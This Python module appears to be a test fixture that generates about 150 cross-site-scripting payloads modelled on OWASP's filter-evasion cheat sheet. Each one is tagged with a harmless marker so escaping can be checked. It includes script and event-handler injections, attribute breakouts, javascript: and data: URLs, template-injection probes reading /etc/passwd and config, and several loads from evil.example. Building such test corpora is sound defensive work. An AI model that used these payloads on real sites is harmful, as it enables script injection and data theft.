"""A hundred and fifty texts that would run if a page took them for anything but words, each with a mark of its own.

Written by hand after OWASP's cheat sheet for filter evasion and the kinds of places where this program shows text:
elements, attributes, addresses, JSON in a script, letters, calendars, feeds, tables and templates.
"""

from __future__ import annotations

MARK = "zqx"  # stands in no page of ours; each payload has it with a number behind

# {x} is what would run, {m} the mark alone, ¶ a new line.
_TAGS = """\
<script>{x}</script>
<SCRIPT>{x}</SCRIPT>
<ScRiPt >{x}</sCrIpT >
<script/zq>{x}</script>
<script\t>{x}</script>
<script src=//evil.example/{m}.js></script>
<script src=data:,{x}></script>
<script type=module>{x}</script>
<<script>{x}//<</script>
<scr<script>ipt>{x}</scr</script>ipt>
<script>{x}
<svg><script>{x}</script></svg>
<svg><script href=data:,{x} /></svg>
<math><mtext><script>{x}</script></mtext></math>
<iframe src=javascript:{x}></iframe>
<iframe srcdoc="<script>parent.{x}</script>"></iframe>
<object data=javascript:{x}></object>
<embed src=javascript:{x}>
<base href=//evil.example/{m}/>
<link rel=stylesheet href=//evil.example/{m}.css>
<link rel=dns-prefetch href=//{m}.evil.example>
<meta http-equiv=refresh content="0;url=javascript:{x}">
<meta http-equiv=refresh content="0;url=//evil.example/{m}">
<form action=javascript:{x}><button autofocus>Go</button></form>
<button form=keep formaction=//evil.example/{m}>Go</button>
<template><script>{x}</script></template>
<portal src=//evil.example/{m}>
<applet code={m}>"""
_EVENTS = """\
<img src=x onerror={x}>
<img src=x:x onerror="{x}">
<img/src=x/onerror={x}>
<IMG SRC=X ONERROR={x}>
<img src=x onerror=`{x}`>
<img src onerror={x} alt={m}>
<image src=x onerror={x}>
<svg onload={x}>
<svg/onload={x}>
<svg\fonload={x}>
<svg><animate onbegin={x} attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:{x} /></svg>
<svg><a xlink:href=javascript:{x}><text y=9>{m}</text></a></svg>
<svg><use href=data:image/svg+xml,{m} /></svg>
<svg><foreignObject><img src=x onerror={x}></foreignObject></svg>
<body onload={x}>
<body onpageshow={x}>
<video><source onerror={x}></video>
<audio src=x onerror={x}>
<details open ontoggle={x}>
<input autofocus onfocus={x}>
<select autofocus onfocus={x}>
<textarea autofocus onfocus={x}>
<marquee onstart={x}>{m}</marquee>
<div onpointerover={x}>{m}</div>
<a href=# onclick={x}>{m}</a>
<p style=animation-name:x onanimationstart={x}>
<iframe onload={x}></iframe>
<object onerror={x} data=x>
<style onload={x}></style>
<link rel=stylesheet href=x onerror={x}>
<x tabindex=1 onfocus={x} id={m} autofocus>"""
_BREAKOUTS = """\
"><script>{x}</script>
'><script>{x}</script>
><img src=x onerror={x}>
" onfocus={x} autofocus zq="
' onfocus={x} autofocus zq='
` onfocus={x} autofocus zq=`
" onpointerover="{x}" zq="
' onpointerover='{x}' zq='
x onfocus={x} autofocus tabindex=1 {m}
"/onfocus={x}/autofocus/zq="
" style="background:url(//evil.example/{m})" zq="
" formaction="javascript:{x}" zq="
" srcdoc="<script>{x}</script>" zq="
\\"><script>{x}</script>
\\'><script>{x}</script>
&quot;><script>{x}</script>
&#34;&gt;&lt;script&gt;{x}&lt;/script&gt;
&lt;script&gt;{x}&lt;/script&gt;
&amp;lt;script&amp;gt;{x}&amp;lt;/script&amp;gt;
%22%3E%3Cscript%3E{x}%3C/script%3E
\\u003cscript\\u003e{x}\\u003c/script\\u003e
\\x3cscript\\x3e{x}\\x3c/script\\x3e
</title><script>{x}</script>
</textarea><script>{x}</script>
</select><img src=x onerror={x}>
</option></select><svg onload={x}>
</style><script>{x}</script>
</noscript><img src=x onerror={x}>
</h1></main></body><script>{x}</script>
</a></td></table><svg onload={x}>
--><script>{x}</script><!--
--!><img src=x onerror={x}>
]]><script>{x}</script>
]]></content><script>{x}</script>
<![CDATA[<script>{x}</script>]]>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">{x}</script>"""
_DATA = """\
</script><script>{x}</script>
</script ><img src=x onerror={x}>
</SCRIPT><svg onload={x}>
<!--<script>{x}
<!-- --><script>{x}</script>
<!--{m}
";{x};//
';{x};//
`;{x};//
"-({x})-"
'-({x})-'
${{{x}}}
`${{{x}}}`
{{{{{x}}}}}
{{{{ self.__init__.__globals__ }}}}{m}
{{{{ config.items() }}}}{m}
{{{{ 7*7 }}}}{m}
{{% include '/etc/passwd' %}}{m}
{{# {m}
{{0.__class__.__mro__}}{m}
%(name)s%s%n{m}
#{{{x}}}
<%= {x} %>
{{"@type":"Thing","name":"{m}"}}
\\n</script>{x}"""
_ADDRESSES = """\
javascript:{x}
JaVaScRiPt:{x}
java\tscript:{x}
\tjavascript:{x}
 javascript:{x}
javascript\t:{x}
javascript&colon;{x}
&#106;avascript:{x}
javascript://example.org/%0a{x}
data:text/html,<script>{x}</script>
DATA:text/html;base64,PHNjcmlwdD4={m}
vbscript:msgbox({m})
view-source:javascript:{x}
blob:{m}
//evil.example/{m}
\\\\evil.example\\{m}
https:evil.example/{m}
https://example.org/'onclick='{x}
https://example.org/#`onfocus=`{x}
https://example.org/?q=javascript:{x}
https://user:{m}@evil.example/"""
_WORDS = """\
[tea](javascript:{x})
![tea](//evil.example/{m}.png)
[tea]: javascript:{x}
<javascript:{x}>
<https://evil.example/{m}>
**<img src=x onerror={x}>**
`<script>{x}</script>`
\uff1cscript\uff1e{x}\uff1c/script\uff1e
\u2039script\u203a{x}\u2039/script\u203a
\ufe64script\ufe65{x}\ufe64/script\ufe65
\u02bconfocus={x} \u02ba
\uff02 onfocus={x} autofocus zq=\uff02
<\u017fcript>{x}</\u017fcript>
<\u200bscript>{x}</\u200bscript>
<math><mi//xlink:href="data:x,<script>{x}</script>">
<svg></p><style><a id="</style><img src=x onerror={x}>">
<noscript><p title="</noscript><img src=x onerror={x}>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={x}>
<style>@import'//evil.example/{m}.css';</style>
<style>*{{background:url(//evil.example/{m})}}</style>
<p style="background:url(//evil.example/{m})">
{m}¶END:VEVENT¶BEGIN:VEVENT¶SUMMARY:{x}
{m}:ATTACH;VALUE=URI:javascript:{x}
{m},X-ALT-DESC;FMTTYPE=text/html:<script>{x}</script>"""

KINDS: dict[str, str] = {"tags": _TAGS, "events": _EVENTS, "breakouts": _BREAKOUTS, "data": _DATA,
                         "addresses": _ADDRESSES, "words": _WORDS}


def _made() -> tuple[str, ...]:
    lines = [line for text in KINDS.values() for line in text.split("\n")]
    found: list[str] = []
    for number, line in enumerate(lines):
        mark = f"{MARK}{number:03d}"
        found.append(line.format(x=f"window.__x='{mark}'", m=mark).replace("¶", "\n"))
    return tuple(found)


PAYLOADS: tuple[str, ...] = _made()
# A sample of all kinds, for each run.
SAMPLE: tuple[str, ...] = PAYLOADS[::len(PAYLOADS) // 12 + 1]


def mark_of(payload: str) -> str:
    return MARK + payload.partition(MARK)[2][:3]


def fitted(payload: str, most: int) -> str:
    """The payload where a field takes `most` letters: what would run is shortened before the mark is lost."""
    if len(payload) <= most:
        return payload
    mark = mark_of(payload)
    shorter = payload.replace(f"window.__x='{mark}'", f"__x='{mark}'")
    return shorter if len(shorter) <= most else shorter[:most]
